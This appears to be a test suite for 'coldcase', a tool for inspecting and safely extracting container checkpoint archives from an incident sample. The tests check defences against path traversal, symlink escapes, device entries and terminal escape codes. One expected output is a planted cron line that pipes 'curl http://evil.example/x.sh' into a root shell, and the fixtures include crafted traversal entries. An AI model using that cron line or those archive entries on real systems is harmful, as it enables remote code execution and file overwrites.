import { spawnSync } from 'node:child_process';
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { decompress } from 'zstd-napi';
import { block, rawHeader } from '../support/raw-tar.js';
import { samplePath } from '../support/samples.js';

const BIN = fileURLToPath(new URL('../../bin/coldcase.js', import.meta.url));
const PODMAN = samplePath('podman-incident');

let directory = '';
beforeEach(() => {
  directory = mkdtempSync(join(tmpdir(), 'coldcase-test-'));
});
afterEach(() => rmSync(directory, { recursive: true }));

interface Ran {
  readonly status: number | null;
  readonly stdout: string;
  readonly stderr: string;
}

function coldcase(args: readonly string[], input?: Uint8Array): Ran {
  const stdin = input === undefined ? {} : { input };
  const ran = spawnSync(process.execPath, [BIN, ...args], { ...stdin, maxBuffer: 64 * 1024 * 1024 });
  return { status: ran.status, stdout: ran.stdout.toString(), stderr: ran.stderr.toString() };
}

/** Writes a tar into the test's directory. */
function tarFile(...blocks: Uint8Array[]): string {
  const path = join(directory, 'test.tar');
  writeFileSync(path, Buffer.concat([...blocks, Buffer.alloc(1024)]));
  return path;
}

const file = (name: string, content: string): Uint8Array[] => [
  rawHeader({ name, size: content.length, mtime: 1_000_000_000 }, (header) => header.write('0006755', 100)),
  block(content),
];

describe('ls', () => {
  test('lists all, as tar does', () => {
    const { status, stdout } = coldcase(['ls', PODMAN]);
    expect(status).toBe(0);
    expect(stdout).toMatch(/^drwx------\s+0\/0\s+0\s+2026-11-23T16:04:\d\dZ\s+checkpoint$/m);
    expect(stdout).toMatch(/^-rw-------\s+0\/0\s+23603\s+\S+\s+config\.dump$/m);
  });

  test('as JSON, by pattern, within the archive within the archive', () => {
    const { status, stdout } = coldcase(['ls', PODMAN, '--json', 'rootfs-diff.tar//usr/**']);
    expect(status).toBe(0);
    expect(JSON.parse(stdout)).toMatchObject([
      { name: 'rootfs-diff.tar//usr/bin/.backdoor', type: 'file', size: 21, mode: '4755', link: null },
    ]);
    const images = JSON.parse(coldcase(['ls', PODMAN, '--json', 'checkpoint/mm-*.img', 'spec.dump']).stdout);
    expect(images.map(({ name }: { name: string }) => name)).toEqual([
      'checkpoint/mm-1.img',
      'checkpoint/mm-3.img',
      'checkpoint/mm-4.img',
      'spec.dump',
    ]);
  });

  test('nothing of that name, no archive, no file', () => {
    expect(coldcase(['ls', PODMAN, 'nothing*']).status).toBe(4);
    expect(coldcase(['ls', PODMAN, 'nothing//']).status).toBe(4);
    expect(coldcase(['ls', PODMAN, 'config.dump//']).status).toBe(5);
    expect(coldcase(['ls', join(directory, 'nothing')]).status).toBe(4);
    expect(coldcase(['ls', directory]).status).toBe(6);
    expect(coldcase(['ls']).status).toBe(2);
  });

  test('hostile names stay on their line and cannot act on a terminal', () => {
    const tar = tarFile(...file('a\u001b[2Jb\nfake\u202e', 'x'));
    const { stdout } = coldcase(['ls', tar]);
    expect(stdout).toContain('a\\x1b[2Jb\\nfake\\u202e');
    expect(stdout).not.toContain('\u001b');
    expect(stdout.trimEnd().split('\n')).toHaveLength(2);
  });

  test('a tar that may have been cut is listed with a warning', () => {
    const path = join(directory, 'cut.tar');
    writeFileSync(path, Buffer.concat(file('a', 'x')));
    const { status, stderr } = coldcase(['ls', path]);
    expect(status).toBe(0);
    expect(stderr).toContain('may have been cut');
  });
});

describe('cat', () => {
  test('writes entries as they are, one after the other', () => {
    const { status, stdout } = coldcase([
      'cat',
      PODMAN,
      'rootfs-diff.tar//etc/cron.d-evil',
      'network.status',
    ]);
    expect(status).toBe(0);
    expect(stdout).toBe('* * * * * root curl http://evil.example/x.sh | sh\nnull');
  });

  test('writes nothing unless all are there', () => {
    const { status, stdout, stderr } = coldcase(['cat', PODMAN, 'network.status', 'nothing']);
    expect([status, stdout]).toEqual([4, '']);
    expect(stderr).toContain('no entry nothing in the archive');
  });

  test('a directory is said to be one', () => {
    const { status, stdout, stderr } = coldcase(['cat', PODMAN, 'network.status', 'checkpoint']);
    expect([status, stdout]).toEqual([4, '']);
    expect(stderr).toContain('checkpoint has no contents: it is a directory\n  coldcase extract');
  });

  const pty = existsSync('/usr/bin/script');
  const onTerminal = (args: string): Ran => {
    const ran = spawnSync('script', ['-qec', `${process.execPath} ${BIN} ${args}`, '/dev/null']);
    return { status: ran.status, stdout: ran.stdout.toString(), stderr: '' };
  };
  test.runIf(pty)(
    'on a terminal: text made safe, binary refused unless forced (skipped without script(1))',
    () => {
      const tar = tarFile(...file('text', 'a\u001b[2Jb\nsecond'), ...file('binary', 'a\0b'));
      expect(onTerminal(`cat ${tar} text`).stdout.replaceAll('\r', '')).toBe('a\\x1b[2Jb\nsecond');
      const refused = onTerminal(`cat ${tar} binary`);
      expect(refused.status).toBe(6);
      expect(refused.stdout).toContain('--force');
      expect(onTerminal(`cat --force ${tar} binary`).stdout).toContain('a\0b');
    },
  );
});

describe('extract', () => {
  const out = (...names: string[]): string => join(directory, 'out', ...names);
  const extract = (tar: string, ...args: string[]): Ran => coldcase(['extract', tar, '-C', out(), ...args]);

  test('what is in the archive, 0600 and 0700, with its times, without setuid', () => {
    const tar = tarFile(
      rawHeader({ name: 'd/', size: 0, flag: '5', mtime: 1_100_000_000 }),
      ...file('d/e/f', 'content'),
      rawHeader({ name: 'd/link', size: 0, flag: '2', link: 'e/f' }),
      rawHeader({ name: 'd/same', size: 0, flag: '1', link: 'd/e/f' }),
    );
    expect(extract(tar)).toMatchObject({ status: 0, stdout: '', stderr: '' });
    expect(readFileSync(out('d/e/f'), 'utf8')).toBe('content');
    expect(statSync(out('d/e/f'))).toMatchObject({ mode: 0o100600, mtimeMs: 1_000_000_000_000, nlink: 1 });
    expect(statSync(out('d'))).toMatchObject({ mode: 0o040700, mtimeMs: 1_100_000_000_000 });
    expect(readlinkSync(out('d/link'))).toBe('e/f');
    expect(readFileSync(out('d/same'), 'utf8')).toBe('content');
    expect(lstatSync(out('d/same')).nlink).toBe(1);
  });

  const symlink = (name: string, link: string): Uint8Array => rawHeader({ name, size: 0, flag: '2', link });
  test.each<[string, Uint8Array[]]>([
    ['a path with ..', file('../evil', 'x')],
    ['a path with .. inside', file('a/../../evil', 'x')],
    ['an absolute path', file('/tmp/coldcase-evil', 'x')],
    ['an absolute symlink', [symlink('l', '/etc')]],
    ['a symlink out', [symlink('l', '../..')]],
    ['a symlink out, the long way', [symlink('d/l', '../../x')]],
    ['a symlink that goes down and up', [symlink('l', 'a/../..')]],
    ['an empty symlink', [symlink('l', '')]],
    ['a character device', [rawHeader({ name: 'c', size: 0, flag: '3' })]],
    ['a block device', [rawHeader({ name: 'c', size: 0, flag: '4' })]],
    ['a FIFO', [rawHeader({ name: 'c', size: 0, flag: '6' })]],
    [
      'a hard link to what is not there',
      [rawHeader({ name: 'h', size: 0, flag: '1', link: '../../etc/passwd' })],
    ],
    [
      'a name of 300 bytes',
      file(`./${'n'.repeat(60)}`, 'x').map((part, at) => (at === 0 ? longName() : part)),
    ],
  ])('%s is left out and named, the rest extracted, exit code 6', (_what, blocks) => {
    const { status, stderr } = extract(tarFile(...blocks, ...file('good', 'x')));
    expect(status).toBe(6);
    expect(stderr).toMatch(/^left out: /);
    expect(stderr).toContain('1 of 2 entries were left out');
    expect(readFileSync(out('good'), 'utf8')).toBe('x');
    expect(readdirSync(out()).filter((name) => name !== 'd')).toEqual(['good']);
    expect(existsSync(join(directory, 'evil')) || existsSync('/tmp/coldcase-evil')).toBe(false);
  });

  function longName(): Buffer {
    const path = `${'n'.repeat(300)}`;
    return Buffer.concat([
      rawHeader({ name: '././@LongLink', size: 300, flag: 'L' }),
      block(path),
      rawHeader({ name: 'n', size: 1 }),
    ]);
  }

  test('no link is followed: neither one of the archive nor one that is there', () => {
    mkdirSync(out(), { recursive: true });
    mkdirSync(join(directory, 'outside'));
    symlinkSync(join(directory, 'outside'), out('there'));
    const tar = tarFile(
      symlink('own', '.'),
      ...file('own/x', 'x'),
      ...file('there/x', 'x'),
      ...file('good', 'x'),
    );
    const { status, stderr } = extract(tar);
    expect(status).toBe(6);
    expect(stderr).toContain('own is in the way');
    expect(stderr).toContain('there is in the way');
    expect(readdirSync(join(directory, 'outside'))).toEqual([]);
    expect(readFileSync(out('good'), 'utf8')).toBe('x');
    expect(existsSync(out('x'))).toBe(false);
  });

  test('what exists stays, unless forced; a link that is there is replaced, not written through', () => {
    mkdirSync(out('d'), { recursive: true });
    writeFileSync(out('a'), 'old');
    writeFileSync(join(directory, 'target'), 'old');
    symlinkSync(join(directory, 'target'), out('b'));
    const tar = tarFile(
      ...file('a', 'new'),
      ...file('b', 'new'),
      ...file('d', 'a file where a directory is'),
    );
    const refused = extract(tar);
    expect(refused.status).toBe(6);
    expect(refused.stderr).toContain('left out: a: something exists');
    expect(readFileSync(out('a'), 'utf8')).toBe('old');
    const forced = extract(tar, '--force');
    expect(forced.status).toBe(6);
    expect(forced.stderr).toContain('left out: d: something exists');
    expect(readFileSync(out('a'), 'utf8')).toBe('new');
    expect(readFileSync(out('b'), 'utf8')).toBe('new');
    expect(readFileSync(join(directory, 'target'), 'utf8')).toBe('old');
  });

  test('of entries with one name the last; patterns; --strip; nothing chosen', () => {
    const tar = tarFile(...file('a/b/c', 'old'), ...file('a/x', 'x'), ...file('a/b/c', 'new'));
    expect(extract(tar, 'a/b', '--strip', '1').status).toBe(0);
    expect(readFileSync(out('b/c'), 'utf8')).toBe('new');
    expect(readdirSync(out())).toEqual(['b']);
    expect(coldcase(['extract', tar, '-C', join(directory, 'no'), 'nothing']).status).toBe(4);
    expect(existsSync(join(directory, 'no'))).toBe(false);
  });

  test('a sparse entry that claims to be huge stays a hole', () => {
    const map = '0,3,1099511627775,1';
    const records = [
      `26 GNU.sparse.size=${2 ** 40}\n`,
      `${`NN GNU.sparse.map=${map}\n`.length} GNU.sparse.map=${map}\n`,
    ];
    const sized = records.map((record) => record.replace(/^\d+/, String(record.length))).join('');
    const tar = tarFile(
      rawHeader({ name: 'x', size: sized.length, flag: 'x' }),
      block(sized),
      rawHeader({ name: 'sparse', size: 4 }),
      block('abcd'),
    );
    expect(extract(tar)).toMatchObject({ status: 0 });
    const stat = statSync(out('sparse'));
    expect(stat.size).toBe(2 ** 40);
    expect(stat.blocks).toBeLessThan(1000);
  });

  test('a damaged archive leaves nothing half written', () => {
    const tar = join(directory, 'cut.gz');
    writeFileSync(tar, gzipSync(Buffer.concat(file('a', 'x'.repeat(100_000)))).subarray(0, -12));
    expect(extract(tar).status).toBe(5);
    expect(existsSync(out())).toBe(false);
  });
});

describe('standard input', () => {
  const tar = decompress(readFileSync(PODMAN));
  test.each([
    ['plain', tar],
    ['zstd', readFileSync(PODMAN)],
    ['gzip', gzipSync(tar, { level: 1 })],
  ])('%s serves ls, cat and extract', (_what, bytes) => {
    expect(coldcase(['ls', '-'], bytes).stdout).toBe(coldcase(['ls', PODMAN]).stdout);
    expect(coldcase(['cat', '-', 'rootfs-diff.tar//etc/cron.d-evil'], bytes).stdout).toContain(
      'evil.example',
    );
    const out = join(directory, 'out');
    expect(coldcase(['extract', '-', '-C', out], bytes)).toMatchObject({ status: 0, stderr: '' });
    expect(readFileSync(join(out, 'checkpoint/pages-2.img')).length).toBe(10_121_216);
  });

  test.each([
    ['nothing at all', Buffer.alloc(0)],
    ['a compressed nothing', gzipSync('')],
  ])('%s is no archive, on a pipe as in a file', (_what, bytes) => {
    const { status, stdout, stderr } = coldcase(['ps', '-'], bytes);
    expect([status, stdout]).toEqual([5, '']);
    expect(stderr).toMatch(/^coldcase: standard input: empty: not an archive\n {2}\S.*\n$/);
  });

  test('as a file, it is read at random', () => {
    const ran = spawnSync('sh', ['-c', `"${process.execPath}" "${BIN}" cat - network.status < "${PODMAN}"`]);
    expect(ran.stdout.toString()).toBe('null');
  });

  test('a truncated stream leaves no half file', () => {
    const out = join(directory, 'out');
    expect(coldcase(['extract', '-', '-C', out], tar.subarray(0, 5_000_000)).status).toBe(5);
    expect(readdirSync(join(out, 'checkpoint')).filter((name) => name.includes('pages-2'))).toEqual([]);
  });
});
